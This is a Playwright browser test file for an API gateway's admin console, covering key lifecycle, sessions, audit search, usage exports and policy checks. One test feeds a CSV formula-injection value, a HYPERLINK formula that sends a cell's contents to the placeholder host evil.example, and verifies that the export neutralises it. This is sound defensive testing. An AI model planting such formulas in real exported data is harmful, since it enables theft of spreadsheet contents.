"""The console in a real headless Chromium (Debian's, driven by Playwright): every flow an operator runs.

Screenshots of each page are taken on the way; `scripts/screenshots` writes them to docs/screenshots/
(SEEKGATE_SCREENSHOTS names the folder), otherwise they go to the test's temporary folder.
"""

from __future__ import annotations

import json
import os
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page, expect, sync_playwright

from proxy.store.rows import COLUMNS
from tests.frontend.console.helpers import ConsoleClient
from tests.frontend.test_http import call
from tests.gateway import Gateway, audit_records, gateway_via, wait_for
from tests.relay import TcpRelay

CHROMIUM = "/usr/bin/chromium"   # scripts/system-packages installs it; nothing is ever downloaded
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run"]


@pytest.fixture(scope="module")
def gw(relay: TcpRelay, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gateway]:
    with gateway_via(tmp_path_factory.mktemp("gw-console-browser"), relay) as g:
        yield g


@pytest.fixture(scope="module")
def admin_key(gw: Gateway) -> str:
    key = gw.key(owner="ops-lead", roles=("admin",))[1]
    # Some served traffic, so the overview and usage pages have something to draw.
    for text in ("Hello", "Bonjour", "Hallo"):
        status, _, _ = call(gw.url + "/v2/models/deepseek/generate", "POST", {"text_input": text, "max_tokens": 4}, key)
        assert status == 200
    return key


def make_key(gw: Gateway, admin_key: str, owner: str, roles: tuple[str, ...] = ("user",)) -> tuple[str, str]:
    status, _, raw = call(gw.url + "/admin/v1/keys", "POST", {"tier": "user", "owner": owner, "roles": list(roles)},
                          admin_key)
    assert status == 201, raw
    doc = json.loads(raw)
    return doc["key_id"], doc["key"]


@pytest.fixture(scope="module")
def shots(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = Path(os.environ.get("SEEKGATE_SCREENSHOTS") or tmp_path_factory.mktemp("screenshots"))
    folder.mkdir(parents=True, exist_ok=True)
    return folder


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory, admin_key: str) -> Iterator[BrowserContext]:
    # Playwright's sync API runs an event loop in this thread: keys are made through the admin API from here on.
    with sync_playwright() as p:
        context = p.chromium.launch_persistent_context(
            str(tmp_path_factory.mktemp("chromium-profile")), executable_path=CHROMIUM, headless=True, args=ARGS,
            viewport={"width": 1280, "height": 800}, accept_downloads=True)
        context.set_default_timeout(15_000)
        try:
            yield context
        finally:
            context.close()


@pytest.fixture(scope="module")
def page(browser: BrowserContext, gw: Gateway, admin_key: str, shots: Path) -> Page:
    """A page signed in with the admin key (the first flow: it must work for any other to)."""
    page = browser.new_page()
    page.on("dialog", lambda dialog: dialog.accept())   # confirmations: the operator says yes
    page.goto(gw.url + "/console/")
    expect(page).to_have_url(gw.url + "/console/signin")
    page.screenshot(path=str(shots / "signin.png"))
    page.get_by_label("Admin key").fill(admin_key)
    page.get_by_role("button", name="Sign in").click()
    expect(page).to_have_url(gw.url + "/console/")
    expect(page.get_by_text("Upstream is")).to_be_visible()
    expect(page.locator("svg.chart").first).to_be_visible()
    page.screenshot(path=str(shots / "overview.png"))
    return page


def test_sign_in_with_an_admin_key_leaves_no_key_in_the_browser(page: Page, admin_key: str) -> None:
    expect(page.locator("header")).to_contain_text("ops-lead")
    assert admin_key not in page.content()
    assert page.evaluate("() => JSON.stringify(localStorage) + JSON.stringify(sessionStorage)") == "{}{}"
    assert "seekgate_console" not in page.evaluate("() => document.cookie")   # HttpOnly: no script reads it
    cookie = next(c for c in page.context.cookies() if c["name"] == "seekgate_console")
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict" and admin_key not in cookie["value"]


def test_the_console_without_its_trailing_slash_still_works(page: Page, gw: Gateway) -> None:
    """An operator types or bookmarks /console: its relative links must resolve under /console/."""
    page.goto(gw.url + "/console")
    expect(page).to_have_url(gw.url + "/console/")
    expect(page.get_by_text("Upstream is")).to_be_visible()


def test_a_user_key_is_refused(browser: BrowserContext, gw: Gateway, admin_key: str) -> None:
    _, user_key = make_key(gw, admin_key, "bob")
    other = browser.browser.new_context() if browser.browser else None
    page = (other or browser).new_page()
    try:
        page.goto(gw.url + "/console/signin")
        page.get_by_label("Admin key").fill(user_key)
        page.get_by_role("button", name="Sign in").click()
        expect(page.get_by_role("alert")).to_have_text("That key may not use the console.")
        assert user_key not in page.content()
    finally:
        page.close()


def test_create_a_key_see_its_secret_once_then_revoke_it_and_see_it_fail(page: Page, gw: Gateway, shots: Path) -> None:
    page.goto(gw.url + "/console/keys")
    form = page.get_by_role("form", name="Create a key")
    form.get_by_label("Owner").fill("svc-new")
    form.get_by_label("Roles").fill("user")
    form.get_by_role("button", name="Create key").click()
    secret = page.locator("#secret")
    expect(secret).to_contain_text("sgk_")
    key = secret.inner_text().strip()
    key_id = key.split("_")[1]
    expect(page.locator(f'[data-key-id="{key_id}"]')).to_be_visible()
    page.screenshot(path=str(shots / "keys.png"), full_page=True, mask=[secret])   # a real secret never in docs/
    assert call(gw.url + "/v2/models/deepseek", key=key)[0] == 200
    page.reload()
    expect(page.locator(f'[data-key-id="{key_id}"]')).to_be_visible()
    assert key not in page.content() and page.locator("#secret").count() == 0   # shown once only
    page.get_by_role("button", name=f"Revoke {key_id}").click()
    expect(page.get_by_role("status").filter(has_text=f"Revoked {key_id}")).to_be_visible()
    assert call(gw.url + "/v2/models/deepseek", key=key)[0] == 401
    page.set_viewport_size({"width": 390, "height": 844})
    page.screenshot(path=str(shots / "keys-narrow.png"))
    page.set_viewport_size({"width": 1280, "height": 800})


def test_a_keys_live_sessions_show_under_it_until_revoked(page: Page, gw: Gateway, admin_key: str) -> None:
    """user → sessions: tokens are not stored, so the tree lists the audited mints still live (TTL, denylist)."""
    user_id, user_key = make_key(gw, admin_key, "svc-sessions")
    jtis = []
    for _ in range(2):
        status, _, raw = call(gw.url + "/v1/sessions", "POST", {}, user_key)
        assert status == 200, raw
        jtis.append(json.loads(raw)["jti"])
    assert call(gw.url + f"/admin/v1/sessions/{jtis[0]}/revoke", "POST", {}, admin_key)[0] == 200

    def live() -> list[str]:
        status, _, raw = call(gw.url + f"/admin/v1/keys/{user_id}/sessions", key=admin_key)
        assert status == 200, raw
        return [s["jti"] for s in json.loads(raw)["sessions"]]
    assert wait_for(lambda: live() == [jtis[1]], 10.0), live()   # the revoked one is not live
    page.goto(gw.url + "/console/keys")
    page.get_by_role("button", name=f"Sessions of {user_id}").click()
    listed = page.get_by_role("list", name=f"Live sessions of {user_id}")
    expect(listed.locator("li")).to_have_count(1)
    expect(listed.locator(f'[data-jti="{jtis[1]}"]')).to_contain_text("sessions.mint")
    # The console's own session, minted by the admin key's sign-in, is under the admin key.
    admin_id = admin_key.split("_")[1]
    page.get_by_role("button", name=f"Sessions of {admin_id}").click()
    expect(page.get_by_role("list", name=f"Live sessions of {admin_id}")).to_contain_text("console.signin")
    # Revoking the key ends its sessions: none is listed any more.
    assert call(gw.url + f"/admin/v1/keys/{user_id}/revoke", "POST", {}, admin_key)[0] == 200
    assert live() == []
    assert call(gw.url + "/v2/models/deepseek", key=user_key)[0] == 401
    page.reload()
    expect(page.get_by_role("button", name=f"Sessions of {user_id}")).to_have_count(0)


def test_the_label_filter_matches_a_value_that_holds_an_equals_sign(page: Page, gw: Gateway, admin_key: str) -> None:
    made = {}
    for value in ("https://hooks.example/x?team=nlp", "https://hooks.example/x?team=ops"):
        status, _, raw = call(gw.url + "/admin/v1/keys", "POST", {"tier": "user", "owner": "svc-hooks", "roles": ["user"],
                                                                  "labels": {"callback": value}}, admin_key)
        assert status == 201, raw
        made[value] = json.loads(raw)["key_id"]
    page.goto(gw.url + "/console/keys")
    page.get_by_role("search", name="Filter keys").get_by_label("Label").fill("callback=https://hooks.example/x?team=nlp")
    expect(page.locator(f'[data-key-id="{made["https://hooks.example/x?team=nlp"]}"]')).to_be_visible()
    expect(page.locator(f'[data-key-id="{made["https://hooks.example/x?team=ops"]}"]')).to_have_count(0)


def test_the_label_filter_matches_only_a_keys_own_labels_not_object_builtins(page: Page, gw: Gateway,
                                                                             admin_key: str) -> None:
    """Label names like `constructor` or `toString` exist on every JS object: the filter must not match them there."""
    made = {}
    for name, labels in (("plain", {"team": "nlp"}), ("ctor", {"constructor": "yes"})):
        status, _, raw = call(gw.url + "/admin/v1/keys", "POST", {"tier": "user", "owner": f"svc-proto-{name}",
                                                                  "roles": ["user"], "labels": labels}, admin_key)
        assert status == 201, raw
        made[name] = json.loads(raw)["key_id"]
    page.goto(gw.url + "/console/keys")
    label = page.get_by_role("search", name="Filter keys").get_by_label("Label")
    plain, ctor = (page.locator(f'[data-key-id="{made[n]}"]') for n in ("plain", "ctor"))
    label.fill("constructor")
    expect(ctor).to_be_visible()
    expect(plain).to_have_count(0)
    for builtin in ("toString", "__proto__", "hasOwnProperty", "toString=x"):
        label.fill(builtin)
        expect(page.locator('[data-key-id]')).to_have_count(0)


def test_the_keys_page_shows_keys_past_the_first_page_of_the_api(page: Page, gw: Gateway, admin_key: str) -> None:
    """1000 revoked keys sorting first fill the API's largest page: the admin keys are on its second."""
    # Ids "2222" + 8 letters: digits sort before letters, so these come before the issued (random) ids.
    ids = ("2222" + f"{n:08d}".translate(str.maketrans("0123456789", "abcdefghij")) for n in range(1000))
    rows = [(key_id, "ab" * 32, "user", "filler", "[]", "{}", "[]", "[]", None, "", "", 1.0, None, 2.0, "{}", 1, None)
            for key_id in ids]
    with sqlite3.connect(gw.data_dir / "seekgate.db") as db:
        db.executemany(f"INSERT INTO keys ({COLUMNS}) VALUES ({', '.join('?' * len(rows[0]))})", rows)
    try:
        page.goto(gw.url + "/console/keys")
        expect(page.locator("[data-key-id]").filter(has_text="ops-lead").first).to_be_visible()
        filters = page.get_by_role("search", name="Filter keys")
        filters.get_by_label("Status").select_option("revoked")
        filters.get_by_label("Owner").fill("filler")
        expect(page.locator("[data-key-id]").filter(has_text="filler")).to_have_count(1000)
    finally:
        with sqlite3.connect(gw.data_dir / "seekgate.db") as db:
            db.execute("DELETE FROM keys WHERE owner = 'filler'")


def test_rotate_with_grace_keeps_the_old_key_working(page: Page, gw: Gateway, admin_key: str) -> None:
    old_id, old_key = make_key(gw, admin_key, "svc-rotate")
    page.goto(gw.url + "/console/keys")
    page.get_by_label("Rotation grace").fill("1h")
    page.get_by_role("button", name=f"Rotate {old_id}").click()
    expect(page.locator("#secret")).to_contain_text("sgk_")
    new_key = page.locator("#secret").inner_text().strip()
    expect(page.get_by_text("(grace 1h)")).to_be_visible()
    assert call(gw.url + "/v2/models/deepseek", key=new_key)[0] == 200
    assert call(gw.url + "/v2/models/deepseek", key=old_key)[0] == 200   # within its grace


def test_compromised_flow_revokes_replaces_and_downloads_the_report(page: Page, gw: Gateway, admin_key: str,
                                                                    tmp_path: Path) -> None:
    leaked_id, leaked = make_key(gw, admin_key, "svc-leaked")
    assert call(gw.url + "/v2/models/deepseek", key=leaked)[0] == 200   # a use the report must show
    page.goto(gw.url + "/console/keys")
    page.get_by_role("button", name=f"Compromised {leaked_id}").click()
    expect(page.locator("#report")).to_contain_text(leaked_id)
    with page.expect_download() as download:
        page.get_by_role("button", name="Download usage report").click()
    saved = tmp_path / "report.json"
    download.value.save_as(saved)
    report = json.loads(saved.read_text())
    assert leaked_id in json.dumps(report)
    assert call(gw.url + "/v2/models/deepseek", key=leaked)[0] == 401


def test_audit_search_finds_the_requests_just_made(page: Page, gw: Gateway, admin_key: str, shots: Path) -> None:
    _, key = make_key(gw, admin_key, "svc-audited")
    for _ in range(2):
        call(gw.url + "/v2/models/deepseek", key=key)
    call(gw.url + "/v2/repository/index", "POST", {}, key)   # denied by policy
    assert wait_for(lambda: sum(r["actor"] == "svc-audited" for r in audit_records(gw)) >= 3, 5.0)
    page.goto(gw.url + "/console/audit")
    search = page.get_by_role("search", name="Audit search")
    search.get_by_label("Owner").fill("svc-audited")
    search.get_by_role("button", name="Search").click()
    expect(page.locator("#audit-count")).to_have_text("1–3 of 3")
    search.get_by_label("Status").select_option("denied")
    search.get_by_role("button", name="Search").click()
    expect(page.locator("#audit-count")).to_have_text("1–1 of 1")
    page.get_by_role("button", name="Show record").first.click()
    expect(page.locator("#record pre")).to_contain_text('"rule": "deny-triton-admin"')
    page.screenshot(path=str(shots / "audit.png"), full_page=True)
    with page.expect_download() as download:
        search.get_by_role("button", name="Export JSONL").click()
    lines = Path(download.value.path()).read_text().splitlines()
    assert [json.loads(line)["status"] for line in lines] == ["denied"]


def test_usage_page_charts_and_exports_csv(page: Page, gw: Gateway, shots: Path) -> None:
    page.goto(gw.url + "/console/usage")
    expect(page.locator("table tbody tr").first).to_be_visible()
    expect(page.locator("svg.chart")).to_be_visible()
    page.screenshot(path=str(shots / "usage.png"), full_page=True)
    with page.expect_download() as download:
        page.get_by_role("button", name="Export CSV").click()
    rows = Path(download.value.path()).read_text().splitlines()
    assert rows[0].startswith("key,day,requests") and len(rows) >= 2


def test_usage_csv_never_carries_a_formula(page: Page, gw: Gateway, admin_key: str) -> None:
    """An owner is any printable text: exported, it must read as text, never run as a spreadsheet formula."""
    owner = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    _, key = make_key(gw, admin_key, owner)
    status, _, _ = call(gw.url + "/v2/models/deepseek/generate", "POST", {"text_input": "Hi", "max_tokens": 2}, key)
    assert status == 200
    page.goto(gw.url + "/console/usage")
    page.get_by_label("Group by").select_option("owner")
    page.get_by_role("button", name="Show").click()
    expect(page.locator("table tbody")).to_contain_text(owner)   # shown as it is on the page
    with page.expect_download() as download:
        page.get_by_role("button", name="Export CSV").click()
    cells = [row.split(",", 1)[0] for row in Path(download.value.path()).read_text().splitlines()[1:]]
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1' in "\n".join(cells), cells
    assert not any(c.lstrip('"').startswith(("=", "+", "-", "@")) for c in cells), cells


def test_policy_evaluation_names_the_deciding_rule(page: Page, gw: Gateway, shots: Path) -> None:
    page.goto(gw.url + "/console/policies")
    expect(page.get_by_text("deny-triton-admin").first).to_be_visible()
    form = page.get_by_role("form", name="Would this be allowed?")
    form.get_by_label("Roles").fill("user")
    form.get_by_label("Path").fill("/v2/repository/index")
    form.get_by_role("button", name="Evaluate").click()
    expect(page.locator("#decision")).to_contain_text("Denied at authorize: policy_denied, deciding rule deny-triton-admin")
    form.get_by_label("Path").fill("/v2/models/deepseek/generate")
    form.get_by_role("button", name="Evaluate").click()
    expect(page.locator("#decision")).to_contain_text("Allowed by rule models-use")
    page.screenshot(path=str(shots / "policies.png"), full_page=True)


def test_crypto_page_rotates_behind_a_confirmation(page: Page, gw: Gateway, shots: Path) -> None:
    page.goto(gw.url + "/console/crypto")
    expect(page.get_by_text("Keys and rotations")).to_be_visible()
    page.screenshot(path=str(shots / "crypto.png"), full_page=True)
    page.get_by_role("button", name="Rotate data key").click()
    expect(page.get_by_text("Rotate data key: done.")).to_be_visible()


def test_keyboard_alone_reaches_the_navigation(page: Page, gw: Gateway) -> None:
    page.goto(gw.url + "/console/overview")
    page.keyboard.press("Tab")
    page.keyboard.press("Tab")   # first link after the brand: Overview, then Keys
    page.keyboard.press("Enter")
    expect(page).to_have_url(gw.url + "/console/keys")


def test_sign_out_and_find_the_session_dead(page: Page, gw: Gateway) -> None:
    token = next(c for c in page.context.cookies() if c["name"] == "seekgate_console")["value"]
    page.goto(gw.url + "/console/")
    page.get_by_role("button", name="Sign out").click()
    expect(page).to_have_url(gw.url + "/console/signin")
    assert not any(c["name"] == "seekgate_console" for c in page.context.cookies())
    replay = ConsoleClient(gw.url)
    replay.cookie = token
    assert replay.api("GET", "keys")[0] == 401
